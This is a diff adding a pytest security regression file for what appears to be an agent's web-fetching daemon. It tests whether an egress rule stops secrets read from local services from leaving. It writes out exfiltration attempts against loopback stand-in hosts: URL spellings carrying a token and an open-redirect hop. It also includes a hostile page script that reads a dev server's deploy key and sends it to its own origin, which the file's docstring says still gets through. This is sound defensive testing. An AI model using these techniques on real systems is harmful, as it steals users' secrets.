@@ -1,0 +1,142 @@
+"""Issue 23, third attacker's-eye review of the exit rule, against the real daemon over real sockets.
+
+Held (kept as regression tests): after a private read of a local service, the URL spellings an attacker picks for
+its own host (userinfo naming the private origin, a trailing dot, IPv4-mapped IPv6 in both forms, another port of
+the private host, the attacker named inside a URL of the private origin) and a redirect hop the private origin
+itself answers with: none of them reaches the attacker's server.
+
+Open (``xfail(strict=True)``): a headless page reads a local service *itself*, inside the agent's call, and sends
+what it read to its own origin. The exit rule judges the session as it was when the call began (clean), and a
+page's requests to the origin of its own document are free; the session is tainted only once the call's result is
+observed, after the data left.
+"""
+
+from __future__ import annotations
+
+import json
+from collections.abc import AsyncIterator
+from pathlib import Path
+
+import pytest
+from aiohttp import web
+from trawl.server.runner import RunningDaemon
+
+from tests.integration.test_daemon_helpers import daemon_settings
+from tests.security.test_exits import TOKEN, Server, fetch, page, serve
+from tests.security.test_exits import attacker as attacker  # the fixture
+from tests.security.test_private_hosts import v1_fetch
+
+FILLER = "The harbour office lists the ferry times to the outer islands for every day of the week."
+
+
+@pytest.fixture
+async def service(attacker: Server) -> AsyncIterator[Server]:
+    """A local service (``localhost``: private by name and by address) whose notes show a secret, and whose
+    ``/bounce`` redirects wherever it is told (an open redirect of the private origin)."""
+    srv = Server("")
+
+    async def handle(request: web.Request) -> web.Response:
+        srv.hits.append(str(request.rel_url))
+        if request.path.startswith("/bounce/"):  # /bounce/<port>/<rest>: no host named in the URL itself
+            _b, _n, port, rest = request.path.split("/", 3)
+            raise web.HTTPFound(f"http://127.0.0.1:{port}/{rest}?{request.query_string}")
+        return web.Response(
+            text=page("Notes", f"<p>The payment API key is {TOKEN}; it stays in the team.</p>" * 2),
+            content_type="text/html",
+        )
+
+    runner, port = await serve("127.0.0.1", handle)
+    srv.url = f"http://localhost:{port}"
+    yield srv
+    await runner.cleanup()
+
+
+async def test_spellings_of_the_attackers_host_are_held_after_a_private_read(
+    tmp_path: Path, service: Server, attacker: Server
+) -> None:
+    port = attacker.url.rsplit(":", 1)[1]
+    own_port = service.url.rsplit(":", 1)[1]
+    k = TOKEN[::-1]
+    tries = [
+        f"http://localhost:{own_port}@127.0.0.1:{port}/userinfo?k={k}",  # the private origin as userinfo
+        f"http://127.0.0.1.:{port}/dot?k={k}",  # a trailing dot
+        f"http://[::ffff:127.0.0.1]:{port}/mapped?k={k}",
+        f"http://[::ffff:7f00:1]:{port}/mapped-hex?k={k}",
+        f"http://LOCALHOST:{port}/port?k={k}",  # the private host, another port (another service)
+        f"{service.url}/search?next=http://127.0.0.1:{port}/nested?k={k}",  # the attacker named inside
+        f"{service.url}/bounce/{port}/hop?k={k}",  # the private origin relays by a hop
+    ]
+    async with RunningDaemon(daemon_settings(tmp_path, allow_private_hosts=True), warm=False) as d:
+        notes = await fetch(d, f"{service.url}/notes")
+        assert notes["ok"] is True and TOKEN in str(notes["chunks"]), notes
+        for url in tries:
+            body = await fetch(d, url)
+            assert body["ok"] is False and body["error"]["code"] in ("exit_held", "exit_refused"), (url, body)
+    assert attacker.hits == [], attacker.hits
+    # The private origin answered its bounce (the hop was decided before it was sent, and held).
+    assert any(h.startswith("/bounce") for h in service.hits), service.hits
+
+
+@pytest.fixture
+async def dev_server() -> AsyncIterator[Server]:
+    """The user's local dev server on 127.0.0.1: its ``/env.js`` sets a secret in the page that includes it (no
+    CORS needed: a script include runs in the including page)."""
+    srv = Server("")
+
+    async def handle(request: web.Request) -> web.Response:
+        srv.hits.append(str(request.rel_url))
+        return web.Response(text=f"window.DEPLOY_KEY = {json.dumps(TOKEN)};", content_type="application/javascript")
+
+    runner, port = await serve("127.0.0.1", handle)
+    srv.url = f"http://127.0.0.1:{port}"
+    yield srv
+    await runner.cleanup()
+
+
+@pytest.mark.xfail(
+    strict=True,
+    raises=AssertionError,
+    reason=(
+        "open: a headless page's own read of a local service inside the agent's call does not taint the session "
+        "until the call's result is observed, and the page's requests to its own document's origin are free, so "
+        "what it read leaves to that origin in the same call"
+    ),
+)
+async def test_a_headless_page_that_reads_a_local_service_cannot_send_it_to_its_own_origin(
+    tmp_path: Path, chromium: str, dev_server: Server
+) -> None:
+    hits: list[str] = []
+    script = f"""<script src="{dev_server.url}/env.js"></script><script>
+      fetch('/c?k=' + encodeURIComponent(String(window.DEPLOY_KEY)))
+        .then(r => r.text(), () => 'failed').then(t => {{
+          document.querySelector('#out').textContent = {json.dumps(" ".join([FILLER] * 3))} + ' Sent: ' + t; }});
+    </script>"""
+
+    async def handle(request: web.Request) -> web.Response:
+        hits.append(str(request.rel_url))
+        if request.path == "/c":
+            return web.Response(text="the collector answered")
+        return web.Response(text=page("Harbour", f"<p id=out></p>{script}"), content_type="text/html")
+
+    # The attacker's page: another loopback address (a public site in real life), default private-host setting.
+    app = web.Application()
+    app.router.add_get("/{tail:.*}", handle)
+    runner = web.AppRunner(app, access_log=None)
+    await runner.setup()
+    site = web.TCPSite(runner, "127.0.0.2", 0)
+    await site.start()
+    port = int(runner.addresses[0][1])
+    settings = daemon_settings(
+        tmp_path, chromium_path=chromium, render_empty_wait_s=40.0, render_timeout_s=50.0, request_timeout_s=90.0
+    )
+    try:
+        async with RunningDaemon(settings, warm=False) as d:
+            body = await v1_fetch(d, f"http://127.0.0.2:{port}/harbour", query="", source="playwright")
+    finally:
+        await runner.cleanup()
+    # The attack ran to its end (the page wrote what its collector answered) ...
+    assert body["ok"] is True and "collector answered" in str(body["chunks"]), body
+    assert any(h.startswith("/env.js") for h in dev_server.hits), dev_server.hits
+    # ... and the secret the page read from the local service must not have reached the page's own origin.
+    sent = [h for h in hits if h.startswith("/c")]
+    assert sent and not any(TOKEN in h for h in sent), f"the page's origin received {sent}"
